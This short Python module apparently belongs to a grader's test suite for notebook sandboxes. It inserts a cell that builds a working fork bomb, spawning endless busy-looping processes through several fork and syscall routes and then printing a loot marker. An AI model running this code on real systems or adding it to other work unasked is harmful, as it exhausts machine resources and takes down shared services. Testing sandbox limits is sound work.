"""Forks for ever, by every call that can."""

from grader.attacks import LOOT, insert

STOCK = "not run: a fork bomb would harm the machine"


def cell(LOOT):
    import ctypes
    import os

    libc = ctypes.CDLL(None)
    ways = os.fork, libc.fork, libc.vfork, lambda: libc.syscall(57)
    made = 0
    for way in ways:
        for _ in range(2000):
            try:
                pid = way()
            except OSError:
                break
            if pid == 0:
                while True:
                    pass
            made += pid > 0
    if made:
        print(LOOT, made, "processes")


def attack(nb, folder):
    insert(nb, cell, LOOT=LOOT)
